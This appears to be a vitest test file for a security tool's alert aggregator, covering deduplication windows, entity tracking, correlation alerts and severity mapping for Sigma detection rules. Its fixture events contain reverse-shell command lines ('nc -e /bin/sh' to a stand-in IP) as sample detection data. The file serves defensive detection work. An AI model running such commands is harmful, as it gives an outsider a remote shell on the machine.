import { describe, expect, it } from 'vitest';
import {
  type Alert,
  AlertAggregator,
  type AlertOptions,
  severityOfLevel,
  severityRank,
} from '../../../src/threats/alerts/index.ts';
import type { FieldValue } from '../../../src/threats/event.ts';
import { detector, event } from '../sigma/helpers.ts';

const RULES = `
title: Test netcat run
id: 11111111-1111-4111-8111-111111111111
description: netcat ran.
remediation: Find out who ran it.
falsepositives: [Administrators debugging]
level: critical
tags: [attack.execution, attack.t1059.004, attack.command-and-control]
logsource: {product: linux, service: auth}
detection:
  sel: {event.action: test_nc}
  condition: sel
---
title: Test failure
name: test_failure
id: 22222222-2222-4222-8222-222222222222
logsource: {product: linux, service: auth}
detection:
  sel: {event.action: test_fail}
  condition: sel
---
title: Test brute force
id: 33333333-3333-4333-8333-333333333333
level: medium
tags: [attack.t1110.001]
correlation:
  type: event_count
  rules: [test_failure]
  group-by: [source.ip]
  timespan: 10m
  condition: {gte: 3}
`;

const T0 = Date.parse('2024-05-01T10:00:00Z');
const at = (minutes: number) => new Date(T0 + minutes * 60_000).toISOString();

/** Runs the test rules over events (each `[minutes after T0, fields]`) into an aggregator. */
function alertsOf(
  events: [number, Record<string, FieldValue>][],
  options: AlertOptions = {},
  onFinal?: (a: Alert) => void,
): Alert[] {
  const d = detector(RULES, { reorderWindowMs: Number.POSITIVE_INFINITY });
  const aggregator = new AlertAggregator(options, onFinal);
  for (const [minutes, fields] of events) {
    for (const m of d.process(event('linux.auth', fields, at(minutes)))) aggregator.add(m);
  }
  for (const m of d.flush()) aggregator.add(m);
  return aggregator.finish();
}

const nc = (extra: Record<string, FieldValue> = {}) => ({
  'event.action': 'test_nc',
  'host.name': 'vm-web-01',
  'user.name': 'tomcat',
  'process.command_line': 'nc -e /bin/sh 192.0.2.6 443',
  'destination.ip': '192.0.2.6',
  ...extra,
});

describe('AlertAggregator', () => {
  it('builds an alert from a rule match: severity, ATT&CK context, entities, evidence', () => {
    const [alert, ...rest] = alertsOf([[0, nc({ 'file.path': '/tmp/x', 'user.domain': 'CONTOSO' })]]);
    expect(rest).toEqual([]);
    expect(alert).toMatchObject({
      title: 'Test netcat run',
      severity: 'High',
      status: 'active',
      kind: 'detection',
      ruleId: '11111111-1111-4111-8111-111111111111',
      description: 'netcat ran.',
      remediation: 'Find out who ran it.',
      falsePositives: ['Administrators debugging'],
      tactics: [
        { id: 'TA0002', name: 'Execution' },
        { id: 'TA0011', name: 'Command and Control' },
      ],
      techniques: [{ id: 'T1059.004', name: 'Unix Shell' }],
      attackVersion: '18.1',
      entities: {
        hosts: ['vm-web-01'],
        ips: ['192.0.2.6'],
        sourceIps: [],
        accounts: ['CONTOSO\\tomcat'],
        processes: ['nc -e /bin/sh 192.0.2.6 443'],
        files: ['/tmp/x'],
        resources: [],
      },
      firstSeen: at(0),
      lastSeen: at(0),
      count: 1,
      evidenceCount: 1,
    });
    expect(alert!.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
    expect(alert!.evidence[0]).toMatchObject({
      '@timestamp': at(0),
      'event.dataset': 'linux.auth',
      'log.file.path': 'test.log',
      fields: { 'event.action': 'test_nc', 'host.name': 'vm-web-01', 'destination.ip': '192.0.2.6' },
    });
  });

  it('deduplicates the same rule on the same entities within the window, counting each match', () => {
    const alerts = alertsOf([
      [0, nc()],
      [30, nc({ 'process.command_line': 'nc -e /bin/bash 192.0.2.7 80' })], // another command, same entities
      [80, nc()], // 50 min after the last: still the same alert
    ]);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ count: 3, firstSeen: at(0), lastSeen: at(80), evidenceCount: 3 });
    expect(alerts[0]!.entities.processes).toEqual([
      'nc -e /bin/sh 192.0.2.6 443',
      'nc -e /bin/bash 192.0.2.7 80',
    ]);
  });

  it('raises a new alert after a gap longer than the window, or on other entities', () => {
    const alerts = alertsOf([
      [0, nc()],
      [61, nc()], // 61 min after the last match
      [62, nc({ 'host.name': 'vm-web-02' })],
      [63, nc({ 'user.name': 'www-data' })],
    ]);
    expect(alerts.map((a) => [a.firstSeen, a.entities.hosts[0], a.entities.accounts[0], a.count])).toEqual([
      [at(0), 'vm-web-01', 'tomcat', 1],
      [at(61), 'vm-web-01', 'tomcat', 1],
      [at(62), 'vm-web-02', 'tomcat', 1],
      [at(63), 'vm-web-01', 'www-data', 1],
    ]);
    expect(new Set(alerts.map((a) => a.id)).size).toBe(4);
  });

  // The window is inclusive, before the first match as after the last: exactly an hour apart is one alert.
  it.each([
    ['exactly the window after', [0, 60], 1],
    ['a millisecond past the window after', [0, 60 + 1 / 60_000], 2],
    ['exactly the window before (arriving late)', [60, 0], 1],
    ['a millisecond past the window before (arriving late)', [60 + 1 / 60_000, 0], 2],
  ])('deduplicates a match %s', (_what, minutes, count) => {
    expect(alertsOf(minutes.map((m) => [m, nc()]))).toHaveLength(count);
  });

  it('honours a configured window', () => {
    expect(
      alertsOf(
        [
          [0, nc()],
          [10, nc()],
        ],
        { dedupWindowMs: 5 * 60_000 },
      ),
    ).toHaveLength(2);
  });

  it('keeps the first evidence events and a bounded entity list, counting the rest', () => {
    const events: [number, Record<string, FieldValue>][] = Array.from({ length: 8 }, (_, i) => [
      i,
      nc({ 'process.command_line': `nc ${i}` }),
    ]);
    const [alert] = alertsOf(events, { maxEvidence: 3, maxEntities: 5 });
    expect(alert!.evidence.map((e) => e.fields['process.command_line'])).toEqual(['nc 0', 'nc 1', 'nc 2']);
    expect(alert!.evidenceCount).toBe(8);
    expect(alert!.entities.processes).toHaveLength(5);
    expect(alert!.entities.truncated).toEqual(['processes']);
  });

  it('keeps the earliest evidence in time order when events arrive newest first', () => {
    const events: [number, Record<string, FieldValue>][] = [5, 4, 3, 2, 1, 0].map((i) => [
      i,
      nc({ 'process.command_line': `nc ${i}` }),
    ]);
    const [alert] = alertsOf(events, { maxEvidence: 3 });
    expect(alert!.evidence.map((e) => e.fields['process.command_line'])).toEqual(['nc 0', 'nc 1', 'nc 2']);
    expect(alert).toMatchObject({ firstSeen: at(0), lastSeen: at(5), count: 6, evidenceCount: 6 });
  });

  it('makes a correlation one alert per group, with the span and every counted event', () => {
    const fail = (ip: string, user: string) => ({
      'event.action': 'test_fail',
      'host.name': 'vm-web-01',
      'source.ip': ip,
      'user.name': user,
    });
    const alerts = alertsOf([
      [0, fail('203.0.113.5', 'root')],
      [1, fail('203.0.113.5', 'admin')],
      [2, fail('198.51.100.9', 'root')],
      [3, fail('203.0.113.5', 'oracle')],
    ]).filter((a) => a.kind === 'correlation');
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      title: 'Test brute force',
      severity: 'Medium',
      tactics: [{ id: 'TA0006', name: 'Credential Access' }], // from the technique
      firstSeen: at(0),
      lastSeen: at(3),
      entities: { sourceIps: ['203.0.113.5'], accounts: ['root', 'admin', 'oracle'] },
      evidenceCount: 3,
    });
  });

  it('names the threat intelligence feeds of its events', () => {
    const [alert] = alertsOf([
      [
        0,
        nc({
          'threat.indicator.ip': '192.0.2.6',
          'threat.indicator.name': '192.0.2.0/24',
          'threat.indicator.matched.field': 'destination.ip',
          'threat.feed.name': 'Contoso TI',
          'threat.indicator.id': 'indicator--1',
        }),
      ],
    ]);
    expect(alert!.threatIntel).toEqual([
      {
        feed: 'Contoso TI',
        indicator: '192.0.2.0/24',
        ip: '192.0.2.6',
        field: 'destination.ip',
        indicatorId: 'indicator--1',
      },
    ]);
  });

  it('gives an alert the same id on every run of the same input', () => {
    const input: [number, Record<string, FieldValue>][] = [
      [0, nc()],
      [90, nc()],
    ];
    expect(alertsOf(input).map((a) => a.id)).toEqual(alertsOf(input).map((a) => a.id));
  });

  it('hands each alert over once its window has passed in stream time, and the rest at the end', () => {
    const d = detector(RULES);
    const final: string[] = [];
    const aggregator = new AlertAggregator({}, (a) => final.push(a.firstSeen));
    for (const m of d.process(event('linux.auth', nc(), at(0)))) aggregator.add(m);
    aggregator.advance(T0 + 59 * 60_000);
    expect(final).toEqual([]);
    aggregator.advance(T0 + 61 * 60_000);
    expect(final).toEqual([at(0)]);
    for (const m of d.process(event('linux.auth', nc(), at(62)))) aggregator.add(m);
    expect(aggregator.finish().map((a) => a.firstSeen)).toEqual([at(0), at(62)]);
    expect(final).toEqual([at(0), at(62)]);
  });
});

describe('AlertAggregator: entities in any case, ties and late matches', () => {
  it.each([
    ['host names', 'host.name', 'VM-WEB-01', 'vm-web-01', 'hosts'],
    [
      'Azure resource ids (the Activity Log writes some in capitals)',
      'azure.resource.id',
      '/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM1',
      '/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1',
      'resources',
    ],
  ] as const)(
    'treats %s in two cases as one entity: one alert, listed once',
    (_what, field, first, second, kind) => {
      const alerts = alertsOf([
        [0, nc({ [field]: first })],
        [5, nc({ [field]: second })],
      ]);
      expect(alerts.map((a) => [a.count, a.entities[kind]])).toEqual([[2, [first]]]);
    },
  );

  it('keeps accounts in two cases apart (Linux account names are case-sensitive)', () => {
    const alerts = alertsOf([
      [0, nc({ 'user.name': 'Admin' })],
      [5, nc({ 'user.name': 'admin' })],
    ]);
    expect(alerts.map((a) => a.entities.accounts)).toEqual([['Admin'], ['admin']]);
  });

  // Two files with events of the same second: evidence must not depend on the order the files were given in.
  const tied = (path: string, line: number) =>
    ({ ...event('linux.auth', nc(), at(0)), 'log.file.path': path, 'log.file.line': line }) as const;
  it.each([
    ['a.log first', ['a.log', 'b.log']],
    ['b.log first', ['b.log', 'a.log']],
  ])('orders evidence of the same time by file and line (%s)', (_what, files) => {
    const d = detector(RULES, { reorderWindowMs: Number.POSITIVE_INFINITY });
    const aggregator = new AlertAggregator({ maxEvidence: 3 });
    for (const line of [1, 2]) {
      for (const path of files) for (const m of d.process(tied(path, line))) aggregator.add(m);
    }
    const [alert] = aggregator.finish();
    expect(alert!.evidence.map((e) => `${e['log.file.path']}:${e['log.file.line']}`)).toEqual([
      'a.log:1',
      'a.log:2',
      'b.log:1',
    ]);
  });

  // 0:00, 59:50 and 60:20 are one alert in time order (each within the hour of the last). Arriving out of
  // order (60:20 before 59:50), the late 59:50 is within the window of both alerts and joins them.
  it.each([
    [[0, 59 + 50 / 60, 60 + 20 / 60]],
    [[0, 60 + 20 / 60, 59 + 50 / 60]],
    [[60 + 20 / 60, 0, 59 + 50 / 60]],
    [[59 + 50 / 60, 60 + 20 / 60, 0]],
  ])('makes the alerts of events in time order whatever their arrival order (%j minutes)', (minutes) => {
    const alerts = alertsOf(minutes.map((m) => [m, nc({ 'process.command_line': `nc ${m}` })]));
    expect(alerts.map((a) => [a.firstSeen, a.lastSeen, a.count, a.evidenceCount])).toEqual([
      [at(0), at(60 + 20 / 60), 3, 3],
    ]);
    expect(alerts[0]!.evidence.map((e) => e['@timestamp'])).toEqual([0, 59 + 50 / 60, 60 + 20 / 60].map(at));
    expect([...alerts[0]!.entities.processes].sort()).toEqual(minutes.map((m) => `nc ${m}`).sort());
  });

  it('lists alerts of the same time by title in the same order on every machine, whatever its locale', () => {
    const rule = (title: string, id: string) =>
      `title: ${title}\nid: ${id}\nlogsource: {product: linux, service: auth}\ndetection: {sel: {event.action: test_nc}, condition: sel}\n`;
    const d = detector(
      [rule('Éclair', 'a1'), rule('Zebra', 'a2'), rule('apple', 'a3'), rule('Tau', 'a4')].join('---\n'),
    );
    const aggregator = new AlertAggregator();
    for (const m of d.process(event('linux.auth', nc(), at(0)))) aggregator.add(m);
    expect(aggregator.finish().map((a) => a.title)).toEqual(['Tau', 'Zebra', 'apple', 'Éclair']);
  });

  it('gives an alert raised again by a late match (a log replayed on standard input) its own id', () => {
    const run = () => {
      const d = detector(RULES);
      const aggregator = new AlertAggregator();
      for (const m of d.process(event('linux.auth', nc(), at(0)))) aggregator.add(m);
      aggregator.advance(T0 + 3 * 3600_000); // final: its window is over
      for (const m of d.process(event('linux.auth', nc(), at(0)))) aggregator.add(m);
      return aggregator.finish();
    };
    const alerts = run();
    expect(alerts.map((a) => a.firstSeen)).toEqual([at(0), at(0)]);
    expect(new Set(alerts.map((a) => a.id)).size).toBe(2);
    expect(run().map((a) => a.id)).toEqual(alerts.map((a) => a.id));
  });
});

describe('severity', () => {
  it.each([
    ['critical', 'High'],
    ['high', 'High'],
    ['medium', 'Medium'],
    ['low', 'Low'],
    ['informational', 'Informational'],
    [undefined, 'Medium'],
  ] as const)('Sigma level %s is Defender severity %s', (level, severity) => {
    expect(severityOfLevel(level)).toBe(severity);
  });

  it('ranks the most severe first', () => {
    expect(
      ['Low', 'High', 'Informational', 'Medium'].sort(
        (a, b) => severityRank(a as never) - severityRank(b as never),
      ),
    ).toEqual(['High', 'Medium', 'Low', 'Informational']);
  });
});
